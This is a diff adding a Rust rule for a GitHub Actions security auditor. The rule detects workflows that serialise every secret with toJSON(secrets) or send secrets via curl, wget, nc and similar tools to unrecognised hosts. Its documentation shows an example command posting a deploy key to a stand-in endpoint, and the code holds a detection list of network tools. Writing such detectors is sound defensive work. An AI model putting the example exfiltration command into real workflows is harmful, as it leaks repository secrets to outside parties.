@@ -1,0 +1,307 @@
+use garrison_report::{Confidence, Finding, Severity, declare_rule};
+use garrison_workflows::{Job, Step, Workflow};
+use garrison_yaml::Node;
+
+use crate::{Audit, Repo, loc};
+
+declare_rule! {
+    /// ## What it checks
+    /// Secrets that leave the runner in ways a reviewer should look at:
+    /// - `toJSON(secrets)` anywhere: every secret of the repository serialised at once
+    ///   (**high**);
+    /// - a `run:` command that sends data over the network (`curl`, `wget`,
+    ///   `Invoke-WebRequest`/`Invoke-RestMethod`, `nc`, `requests.post`) with a secret on the
+    ///   same command — `${{ secrets.X }}` directly or an environment variable set from a
+    ///   secret — to a host that is not a well-known API of the secret's usual kind
+    ///   (GitHub, PyPI, Codecov, Coveralls, Anaconda.org, Read the Docs, Zenodo, Slack, …)
+    ///   (**medium**; confidence medium when the host is a literal URL, low when it comes from
+    ///   a variable). `GITHUB_TOKEN` is ignored.
+    ///
+    /// ## Why it matters
+    /// A secret sent to an arbitrary endpoint is out of GitHub's log masking and out of your
+    /// control. An attacker who can change a workflow (a compromised action, a pull request
+    /// merged without review) exfiltrates secrets exactly this way; `toJSON(secrets)` is how
+    /// the tj-actions compromise dumped every secret.
+    ///
+    /// ## Example
+    /// ```yaml
+    /// - run: curl -d "key=${{ secrets.DEPLOY_KEY }}" https://example.net/hook
+    /// ```
+    ///
+    /// ## Remediation
+    /// Never serialise `secrets`. Send a secret only to the service that issued it, pass it
+    /// through `env:` rather than the command line, and prefer OIDC (Trusted Publishing,
+    /// cloud federation) over long-lived secrets.
+    pub SecretsExfiltration {
+        id: "workflow/secrets-exfiltration",
+        summary: "secrets serialised or sent to a network endpoint",
+        severity: High,
+        help: "do not serialise `secrets`; send each secret only to the service that issued it, via `env:`",
+        references: [
+            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions",
+        ],
+    }
+}
+
+const NET: &[&str] = &[
+    "curl ",
+    "curl\t",
+    "wget ",
+    "Invoke-WebRequest",
+    "Invoke-RestMethod",
+    "iwr ",
+    "irm ",
+    " nc ",
+    "ncat ",
+    "requests.post",
+    "requests.put",
+    "http POST",
+    "httpie",
+];
+
+const KNOWN_HOSTS: &[&str] = &[
+    "github.com",
+    "githubusercontent.com",
+    "ghcr.io",
+    "pypi.org",
+    "pythonhosted.org",
+    "codecov.io",
+    "coveralls.io",
+    "anaconda.org",
+    "anaconda.com",
+    "readthedocs.org",
+    "readthedocs.io",
+    "zenodo.org",
+    "slack.com",
+    "discord.com",
+    "gitter.im",
+    "circleci.com",
+    "azure.com",
+    "amazonaws.com",
+    "googleapis.com",
+    "sonarcloud.io",
+    "codacy.com",
+    "netlify.com",
+    "cachix.org",
+    "gitlab.com",
+    "docker.io",
+    "docker.com",
+    "quay.io",
+    "conda-forge.org",
+    "scientific-python.org",
+    "zulipchat.com",
+];
+
+/// Environment variables visible to the step whose value reads a secret.
+fn secret_vars<'a>(wf: &'a Workflow, job: &'a Job, step: &'a Step) -> Vec<&'a str> {
+    let mut v = Vec::new();
+    for env in [step.env.as_ref(), job.env.as_ref(), wf.env.as_ref()]
+        .into_iter()
+        .flatten()
+    {
+        for (k, val) in env.entries() {
+            if crate::facts::reads_secret(val) {
+                v.push(k);
+            }
+        }
+    }
+    v
+}
+
+fn mentions_var(cmd: &str, var: &str) -> bool {
+    [
+        format!("${var}"),
+        format!("${{{var}}}"),
+        format!("$env:{var}"),
+        format!("%{var}%"),
+    ]
+    .iter()
+    .any(|p| {
+        cmd.match_indices(p.as_str()).any(|(i, _)| {
+            // `$TOKEN` must not be a prefix of `$TOKEN_URL`.
+            !cmd[i + p.len()..]
+                .chars()
+                .next()
+                .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
+                || p.ends_with('}')
+                || p.ends_with('%')
+        })
+    })
+}
+
+fn hosts(cmd: &str) -> Vec<String> {
+    let mut v = Vec::new();
+    for (i, _) in cmd.match_indices("://") {
+        let start = cmd[..i]
+            .rfind(|c: char| !c.is_ascii_alphanumeric())
+            .map_or(0, |j| j + 1);
+        let scheme = &cmd[start..i];
+        if scheme != "http" && scheme != "https" {
+            continue;
+        }
+        let rest = &cmd[i + 3..];
+        let host: String = rest
+            .chars()
+            .take_while(|c| {
+                c.is_ascii_alphanumeric()
+                    || *c == '.'
+                    || *c == '-'
+                    || *c == '$'
+                    || *c == '{'
+                    || *c == '}'
+                    || *c == '_'
+            })
+            .collect();
+        v.push(host.to_ascii_lowercase());
+    }
+    v
+}
+
+fn known(host: &str) -> bool {
+    let h = host.split(':').next().unwrap_or(host);
+    KNOWN_HOSTS
+        .iter()
+        .any(|k| h == *k || h.ends_with(&format!(".{k}")))
+}
+
+/// Logical commands of a run block as (start, end) byte ranges in `raw`, joining lines that
+/// end with `\` or PowerShell's backtick.
+fn commands(raw: &str) -> Vec<(usize, usize)> {
+    let mut out = Vec::new();
+    let mut start: Option<usize> = None;
+    let mut pos = 0;
+    for line in raw.split_inclusive('\n') {
+        let body = line.trim_end_matches(['\n', '\r']);
+        let s = *start.get_or_insert(pos);
+        pos += line.len();
+        let t = body.trim_end();
+        if !(t.ends_with('\\') || t.ends_with('`')) {
+            out.push((s, s + (pos - s) - (line.len() - body.len())));
+            start = None;
+        }
+    }
+    if let Some(s) = start {
+        out.push((s, raw.len()));
+    }
+    out
+}
+
+fn check_run(wf: &Workflow, job: &Job, step: &Step, run: &Node, out: &mut Vec<Finding>) {
+    let text = wf.file.source.text();
+    let raw = run.source(text);
+    let vars = secret_vars(wf, job, step);
+    for (s, e) in commands(raw) {
+        let Some(cmd) = raw.get(s..e) else { continue };
+        if cmd.trim_start().starts_with('#') || !NET.iter().any(|n| cmd.contains(n)) {
+            continue;
+        }
+        let direct: Vec<String> = cmd
+            .match_indices("secrets.")
+            .map(|(i, _)| {
+                cmd[i + 8..]
+                    .chars()
+                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_' || *c == '-')
+                    .collect::<String>()
+            })
+            .filter(|n| !n.eq_ignore_ascii_case("GITHUB_TOKEN") && !n.is_empty())
+            .collect();
+        let via: Vec<&str> = vars
+            .iter()
+            .copied()
+            .filter(|v| mentions_var(cmd, v))
+            .collect();
+        let secret = direct
+            .first()
+            .cloned()
+            .or_else(|| via.first().map(|v| (*v).to_string()));
+        let Some(secret) = secret else { continue };
+        let hs = hosts(cmd);
+        if !hs.is_empty() && hs.iter().all(|h| known(h)) {
+            continue;
+        }
+        let literal = hs.iter().any(|h| !h.contains('$') && !h.is_empty());
+        let base = run.span.start_offset;
+        let indent = cmd.len() - cmd.trim_start().len();
+        let span = wf.file.source.span(base + s + indent, base + e);
+        out.push(
+            Finding::builder(&SecretsExfiltration::META)
+                .message(format!(
+                    "{} sends secret {secret} over the network to {}",
+                    step.label(),
+                    if hs.is_empty() {
+                        "an endpoint not named on the command line".to_string()
+                    } else {
+                        hs.join(", ")
+                    }
+                ))
+                .severity(Severity::Medium)
+                .confidence(if literal {
+                    Confidence::Medium
+                } else {
+                    Confidence::Low
+                })
+                .location(
+                    loc(wf.path(), span, crate::route(&step.route, "run"))
+                        .with_note("secret sent here"),
+                )
+                .evidence("secret", secret.as_str())
+                .evidence("hosts", hs.clone())
+                .key(secret.clone())
+                .build(),
+        );
+    }
+}
+
+impl Audit for SecretsExfiltration {
+    fn meta(&self) -> &'static garrison_report::RuleMeta {
+        &Self::META
+    }
+
+    fn workflow(&self, _repo: &Repo, wf: &Workflow, out: &mut Vec<Finding>) {
+        for e in wf.expressions(&wf.file.root) {
+            let norm: String = e
+                .inner
+                .chars()
+                .filter(|c| !c.is_whitespace())
+                .collect::<String>()
+                .to_ascii_lowercase();
+            if norm.contains("tojson(secrets)") {
+                out.push(
+                    Finding::builder(&SecretsExfiltration::META)
+                        .message("`toJSON(secrets)` serialises every secret of the repository")
+                        .severity(Severity::High)
+                        .confidence(Confidence::High)
+                        .location(loc(wf.path(), e.span, "").with_note("all secrets"))
+                        .evidence("expression", e.inner.trim())
+                        .key(format!("tojson:{}", e.span.start_offset))
+                        .build(),
+                );
+            }
+        }
+        for job in &wf.jobs {
+            for step in &job.steps {
+                if let Some(run) = &step.run {
+                    check_run(wf, job, step, run, out);
+                }
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn host_and_vars() {
+        assert_eq!(
+            hosts("curl -H x https://api.github.com/repos"),
+            ["api.github.com"]
+        );
+        assert!(known("uploads.github.com"));
+        assert!(!known("evil.example"));
+        assert!(mentions_var("curl -u $TOKEN x", "TOKEN"));
+        assert!(!mentions_var("curl $TOKEN_URL", "TOKEN"));
+        assert_eq!(commands("a \\\n b\nc\n").len(), 2);
+    }
+}
